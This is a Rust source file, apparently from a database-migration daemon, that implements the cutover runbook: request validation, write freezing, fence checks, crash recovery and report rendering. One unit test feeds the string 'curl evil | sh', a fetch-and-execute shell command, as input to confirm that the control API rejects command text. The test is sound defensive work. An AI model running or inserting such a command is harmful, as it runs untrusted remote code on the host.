//! The cutover runbook (`ferry cutover`), run inside the daemon so it survives the client.
//!
//! Steps, each reported as it goes (and in the final report with its timing):
//!
//! 1. `preconditions`: the job is STREAMING; the freeze mode has what it needs.
//! 2. `wait`: until `--at`, while the postpone flag file exists, then until lag is under
//!    `--max-lag-ms` (bounded by `--timeout`). The job goes CUTTING_OVER.
//! 3. `freeze`: `none` (writers already stopped), `command` (the operator's hook), or `rbac`
//!    (revoke Insert/Delete/Upsert of the configured roles on the source). What is needed to
//!    undo the freeze is persisted before the freeze, so a crash can be undone on restart.
//! 4. `end_position`: a timestamp allocated on the source after the freeze (the fence);
//!    the end position of each channel is its first time tick at or past it.
//! 5. `drain`: apply until every channel's applied position reaches its end position.
//! 6. `verify`: counts, or every key and row digest (`full`), via [`crate::verify`].
//! 7. `post`: indexes the target lacks; load on request.
//! 8. `fence`: the freeze held. From before the fence is taken, the log counts every insert
//!    or delete of the job's collections stamped after it (an upsert is one of each, which
//!    a count check cannot see); checked after the drain, after verify, and here, once
//!    every channel's time tick passed a second timestamp taken now. Any such write aborts
//!    the cutover, and the report names the collections and counts (`fence_breaches`).
//! 9. `done`: the job is SUCCESSFUL; the report is written (sled, and to the client).
//!
//! Any failure or abort before `done` unfreezes the source, returns the job to STREAMING
//! and reports why. The write-unavailability window is freeze start to verified.
//!
//! # Layout
//! - `run`: the steps above, a method each, and the abort path.
//! - `freeze`: freezing and unfreezing the source's writes, and undoing a freeze.
//! - this file: the request, the report, and starting, aborting and recovering a cutover.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::{Duration, SystemTime};

use serde::{Deserialize, Serialize};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use crate::config::JobConfig;
use crate::job::handle::JobHandle;
use crate::job::lifecycle::{Event, JobState};
use crate::log::FenceBreach;
use crate::proto::control as api;
use crate::verify::{self, VerifyMode, VerifyOptions};
use freeze::{restore_writes, Frozen};
use crate::state::keys;
use run::Run;

mod freeze;
mod run;

/// Errors starting or aborting a cutover.
#[derive(Debug, thiserror::Error)]
pub enum CutoverError {
    #[error("{0}")]
    Rejected(String),
}

/// How the source's writes are stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Freeze {
    None,
    Command { freeze: String, unfreeze: Option<String> },
    Rbac { roles: Vec<String> },
}

impl Freeze {
    fn name(&self) -> &'static str {
        match self {
            Freeze::None => "none",
            Freeze::Command { .. } => "command",
            Freeze::Rbac { .. } => "rbac",
        }
    }
}

/// A validated cutover request.
#[derive(Debug, Clone)]
pub struct CutoverPlan {
    pub max_lag: Duration,
    pub timeout: Duration,
    pub freeze: Freeze,
    pub at: Option<SystemTime>,
    pub postpone_flag: Option<PathBuf>,
    pub verify: VerifyMode,
    pub dry_run: bool,
    pub load: bool,
}

impl CutoverPlan {
    /// Checks a request against the job file's `[cutover]` section. A request picks a freeze
    /// mode; the commands come from the job file only (command text in a request is refused,
    /// so whoever can call the control API cannot run commands on the daemon's host).
    pub fn from_request(req: &api::CutoverRequest, cfg: &JobConfig) -> Result<Self, CutoverError> {
        let bad = |m: String| CutoverError::Rejected(m);
        if !req.freeze_command.is_empty() || !req.unfreeze_command.is_empty() {
            return Err(bad(
                "a cutover request cannot carry freeze or unfreeze commands: they come from the daemon's job file ([cutover] freeze_command, unfreeze_command)".into(),
            ));
        }
        let freeze = match req.freeze.as_str() {
            "" | "none" => Freeze::None,
            "command" => {
                let freeze = cfg.cutover.freeze_command.clone().ok_or_else(|| {
                    bad("--freeze command needs [cutover] freeze_command in the daemon's job file".into())
                })?;
                Freeze::Command { freeze, unfreeze: cfg.cutover.unfreeze_command.clone() }
            }
            "rbac" => {
                if cfg.cutover.rbac_roles.is_empty() {
                    return Err(bad("--freeze rbac needs [cutover] rbac_roles in the job file (the source roles of the writers)".into()));
                }
                Freeze::Rbac { roles: cfg.cutover.rbac_roles.clone() }
            }
            other => return Err(bad(format!("--freeze {other:?}: must be none, command or rbac"))),
        };
        let verify = match req.verify.as_str() {
            "" | "counts" => VerifyMode::Counts,
            "full" => VerifyMode::Full,
            other => return Err(bad(format!("--verify {other:?}: must be counts or full"))),
        };
        let at = match req.at.as_str() {
            "" => None,
            s => Some(
                chrono::DateTime::parse_from_rfc3339(s)
                    .map_err(|e| bad(format!("--at {s:?}: not an RFC 3339 time ({e})")))?
                    .into(),
            ),
        };
        if let Some(at) = at {
            if at > SystemTime::now() + MAX_SCHEDULE_AHEAD {
                return Err(bad(format!("--at {:?}: more than {} days ahead", req.at, MAX_SCHEDULE_AHEAD.as_secs() / 86_400)));
            }
        }
        if req.max_lag_ms > MAX_LAG_BOUND.as_millis() as u64 {
            return Err(bad(format!("--max-lag-ms {}: at most {} (one hour)", req.max_lag_ms, MAX_LAG_BOUND.as_millis())));
        }
        if req.timeout_s > MAX_TIMEOUT.as_secs() {
            return Err(bad(format!("--timeout {}s: at most {}s (one day)", req.timeout_s, MAX_TIMEOUT.as_secs())));
        }
        if req.postpone_flag.len() > 4096 {
            return Err(bad("--postpone-flag: path longer than 4096 bytes".into()));
        }
        Ok(CutoverPlan {
            max_lag: Duration::from_millis(if req.max_lag_ms == 0 { 1000 } else { req.max_lag_ms }),
            timeout: Duration::from_secs(if req.timeout_s == 0 { 600 } else { req.timeout_s }),
            freeze,
            at,
            postpone_flag: non_empty(&req.postpone_flag).map(PathBuf::from),
            verify,
            dry_run: req.dry_run,
            load: req.load,
        })
    }
}

/// Bounds of a cutover request's durations, checked where they enter: deadlines computed
/// from them can then never overflow.
const MAX_LAG_BOUND: Duration = Duration::from_secs(3600);
const MAX_TIMEOUT: Duration = Duration::from_secs(86_400);
const MAX_SCHEDULE_AHEAD: Duration = Duration::from_secs(366 * 86_400);

fn non_empty(s: &str) -> Option<String> {
    (!s.trim().is_empty()).then(|| s.to_string())
}

/// One step in the report.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct StepReport {
    pub step: String,
    pub status: String,
    pub message: String,
    pub seconds: f64,
}

/// The cutover report (JSON in `ferry cutover --json`, status, and sled).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CutoverReport {
    pub job: String,
    /// `successful`, `aborted` or `dry_run`.
    pub outcome: String,
    /// Why it aborted.
    pub reason: Option<String>,
    pub freeze: String,
    pub started_ms: i64,
    pub finished_ms: i64,
    pub steps: Vec<StepReport>,
    /// Per channel, the source time tick (Unix ms) drained to.
    pub end_position_ms: BTreeMap<String, u64>,
    pub drain_seconds: Option<f64>,
    /// Freeze start to verified: how long the application could not write.
    pub write_unavailable_seconds: Option<f64>,
    /// The verification report (see `ferry verify --json`).
    pub verify: Option<serde_json::Value>,
    /// Per source collection, the writes stamped after the fence: writes the freeze did not
    /// stop (any aborts the cutover).
    #[serde(default)]
    pub fence_breaches: BTreeMap<String, FenceBreach>,
}

/// Starts a cutover in the background; its events arrive on the receiver (the cutover goes
/// on if the receiver is dropped).
pub fn start(job: JobHandle, req: api::CutoverRequest) -> Result<mpsc::Receiver<api::CutoverEvent>, CutoverError> {
    let live = job.live().ok_or_else(|| CutoverError::Rejected("the job has not started yet".into()))?;
    let plan = CutoverPlan::from_request(&req, &live.context.cfg)?;
    let abort = job
        .begin_cutover(&format!("pending (freeze {})", plan.freeze.name()))
        .ok_or_else(|| CutoverError::Rejected("a cutover is already pending or running (`ferry cutover --abort` stops it)".into()))?;
    let (tx, rx) = mpsc::channel(64);
    job.clone().cutover_tasks().spawn(async move {
        // Releases the cutover slot however this task ends (a panic included), so a failed
        // cutover can never leave the daemon refusing every later one.
        let _slot = SlotGuard(job.clone());
        let mut run = Run::new(job.clone(), live, tx, abort);
        let report = run.execute(&plan).await;
        if !plan.dry_run {
            if let Err(e) = job.save_cutover_report(&report) {
                tracing::error!(error = %e, "cannot persist the cutover report");
            }
        }
        // The report itself waits for room: the client must get it.
        let done = Run::event("done", &report.outcome, report.reason.as_deref().unwrap_or(""), 0.0, Some(&report));
        let _ = run.tx.send(done).await;
    });
    Ok(rx)
}

/// Ends the job's cutover registration when dropped.
struct SlotGuard(JobHandle);

impl Drop for SlotGuard {
    fn drop(&mut self) {
        self.0.end_cutover();
    }
}

/// Aborts a pending or running cutover.
pub fn abort(job: &JobHandle) -> Result<(), CutoverError> {
    if job.abort_cutover() {
        Ok(())
    } else {
        Err(CutoverError::Rejected("no cutover is pending or running".into()))
    }
}

/// Verifies the running job's collections now (counts, or `full`).
pub async fn verify_now(job: &JobHandle, full: bool, sample: u32) -> Result<api::VerifyResponse, CutoverError> {
    let live = job.live().ok_or_else(|| CutoverError::Rejected("the job has not started yet".into()))?;
    let c = &live.context;
    let mut opts = VerifyOptions::new(if full { VerifyMode::Full } else { VerifyMode::Counts }, &c.cfg.copy);
    if sample > 0 {
        opts.sample = sample as usize;
    }
    let report = verify::verify(&c.source, &c.target, &live.active_plan(), &opts, CancellationToken::new())
        .await
        .map_err(|e| CutoverError::Rejected(format!("verify: {e}")))?;
    Ok(api::VerifyResponse {
        equal: report.equal,
        report_json: serde_json::to_string(&report).unwrap_or_default(),
    })
}

/// On daemon start: a cutover that died with its process is undone (source unfrozen, job
/// back to STREAMING) and the error log says so.
pub async fn recover(handle: &JobHandle, cfg: &JobConfig) {
    let frozen = handle.store().get::<Frozen>(keys::FROZEN).ok().flatten();
    if frozen.is_none() && handle.state() != JobState::CuttingOver {
        return;
    }
    let mut msg = "a cutover was interrupted by a restart: aborted".to_string();
    if frozen.is_some() {
        match crate::plan::connect(cfg).await {
            Ok((source, _)) => {
                if let Some(Ok(what) | Err(what)) = restore_writes(handle.store(), &source, &cfg.cutover, 3).await {
                    msg += &format!("; {what}");
                }
            }
            Err(e) => msg += &format!("; cannot reach the source to restore its writes: {e} (ferry tries again at the next cutover and daemon start)"),
        }
    }
    tracing::error!("{msg}");
    handle.record_error("", "cutover", &msg);
    if handle.state() == JobState::CuttingOver {
        if let Err(e) = handle.fire(Event::CutoverAbort) {
            tracing::error!(error = %e, "cannot return the job to STREAMING");
        }
    }
}

/// `name: N writes (I rows inserted, D deleted) stamped after the fence; ...`.
fn breach_summary(breaches: &BTreeMap<String, FenceBreach>) -> String {
    let each: Vec<String> = breaches
        .iter()
        .map(|(name, b)| {
            format!(
                "collection {name}: {} writes stamped after the fence ({} rows inserted, {} deleted; an upsert is one of each)",
                b.writes, b.inserted_rows, b.deleted_rows
            )
        })
        .collect();
    each.join("; ")
}

/// The human rendering of a report.
pub fn render(r: &CutoverReport) -> String {
    let mut out = format!("cutover of job {}: {}\n", r.job, r.outcome.to_uppercase());
    if let Some(reason) = &r.reason {
        out += &format!("  reason: {reason}\n");
    }
    for s in &r.steps {
        out += &format!("  {:<14} {:<8} {:>8.3}s  {}\n", s.step, s.status, s.seconds, s.message);
    }
    if let Some(d) = r.drain_seconds {
        out += &format!("  drain: {d:.3}s\n");
    }
    if !r.fence_breaches.is_empty() {
        out += &format!("  writes after the fence: {}\n", breach_summary(&r.fence_breaches));
    }
    if let Some(w) = r.write_unavailable_seconds {
        out += &format!("  write-unavailability window (freeze to verified): {w:.3}s\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(extra: &str) -> JobConfig {
        let text = format!("[source]\nuri = \"http://a:1\"\n[target]\nuri = \"http://b:1\"\n[job]\nname = \"j\"\n{extra}");
        JobConfig::parse(&text, std::path::Path::new("j.toml")).unwrap()
    }

    #[test]
    fn request_defaults_and_validation() {
        let p = CutoverPlan::from_request(&api::CutoverRequest::default(), &cfg("")).unwrap();
        assert_eq!(p.freeze, Freeze::None);
        assert_eq!(p.max_lag, Duration::from_millis(1000));
        assert_eq!(p.timeout, Duration::from_secs(600));
        assert_eq!(p.verify, VerifyMode::Counts);

        let req = |f: &str| api::CutoverRequest { freeze: f.into(), ..Default::default() };
        let e = CutoverPlan::from_request(&req("command"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("[cutover] freeze_command"), "{e}");
        let e = CutoverPlan::from_request(&req("rbac"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("rbac_roles"), "{e}");
        let e = CutoverPlan::from_request(&req("stop-the-world"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("none, command or rbac"), "{e}");
        let p = CutoverPlan::from_request(&req("rbac"), &cfg("[cutover]\nrbac_roles = [\"w\"]\n")).unwrap();
        assert_eq!(p.freeze, Freeze::Rbac { roles: vec!["w".into()] });
        let p = CutoverPlan::from_request(
            &req("command"),
            &cfg("[cutover]\nfreeze_command = \"stop\"\nunfreeze_command = \"start\"\n"),
        )
        .unwrap();
        assert_eq!(p.freeze, Freeze::Command { freeze: "stop".into(), unfreeze: Some("start".into()) });

        let at = api::CutoverRequest { at: "2027-01-02T03:04:05+01:00".into(), ..Default::default() };
        let p = CutoverPlan::from_request(&at, &cfg("")).unwrap();
        let secs = p.at.unwrap().duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs();
        assert_eq!(secs, 1_798_855_445);
        let bad = api::CutoverRequest { at: "tomorrow".into(), ..Default::default() };
        assert!(CutoverPlan::from_request(&bad, &cfg("")).unwrap_err().to_string().contains("RFC 3339"));
    }

    /// Command text in a request is refused whatever the freeze mode, even when the job file
    /// has commands of its own: commands come only from the job file.
    #[test]
    fn command_text_in_a_request_is_refused() {
        let file = cfg("[cutover]\nfreeze_command = \"stop\"\nunfreeze_command = \"start\"\n");
        for (freeze, unfreeze) in [("touch /tmp/x", ""), ("", "curl evil | sh"), ("a", "b")] {
            for mode in ["command", "none", "rbac", ""] {
                let req = api::CutoverRequest {
                    freeze: mode.into(),
                    freeze_command: freeze.into(),
                    unfreeze_command: unfreeze.into(),
                    ..Default::default()
                };
                let e = CutoverPlan::from_request(&req, &file).unwrap_err().to_string();
                assert!(e.contains("cannot carry freeze or unfreeze commands"), "{e}");
            }
        }
    }

    /// Durations and times from a request are bounded where they enter, so no deadline
    /// computed from them can overflow (a huge `--timeout` used to panic the cutover task).
    #[test]
    fn request_durations_are_bounded() {
        let e = |req: api::CutoverRequest| CutoverPlan::from_request(&req, &cfg("")).unwrap_err().to_string();
        assert!(e(api::CutoverRequest { timeout_s: u64::MAX, ..Default::default() }).contains("--timeout"));
        assert!(e(api::CutoverRequest { max_lag_ms: u64::MAX, ..Default::default() }).contains("--max-lag-ms"));
        assert!(e(api::CutoverRequest { at: "9999-12-31T23:59:59Z".into(), ..Default::default() }).contains("days ahead"));
        let ok = api::CutoverRequest { timeout_s: 86_400, max_lag_ms: 3_600_000, ..Default::default() };
        let p = CutoverPlan::from_request(&ok, &cfg("")).unwrap();
        assert!(std::time::Instant::now().checked_add(p.timeout).is_some());
    }

    #[test]
    fn report_renders_steps_and_window() {
        let r = CutoverReport {
            job: "j".into(),
            outcome: "successful".into(),
            steps: vec![StepReport { step: "drain".into(), status: "ok".into(), message: "m".into(), seconds: 0.25 }],
            write_unavailable_seconds: Some(1.5),
            ..Default::default()
        };
        let t = render(&r);
        assert!(t.contains("SUCCESSFUL") && t.contains("drain") && t.contains("1.500s"), "{t}");
    }

    /// A report of writes after the fence names each collection with its counts, in text
    /// and JSON; an older report without the field still reads.
    #[test]
    fn report_names_fence_breaches() {
        let b = FenceBreach { writes: 4, inserted_rows: 20, deleted_rows: 20, first_ts: 1 << 18 };
        let r = CutoverReport { outcome: "aborted".into(), fence_breaches: [("orders".to_string(), b)].into(), ..Default::default() };
        let t = render(&r);
        assert!(t.contains("collection orders: 4 writes stamped after the fence (20 rows inserted, 20 deleted"), "{t}");
        let json = serde_json::to_value(&r).unwrap();
        assert_eq!(json["fence_breaches"]["orders"]["writes"], 4);
        let mut old = json;
        old.as_object_mut().unwrap().remove("fence_breaches");
        assert!(serde_json::from_value::<CutoverReport>(old).unwrap().fence_breaches.is_empty());
    }
}
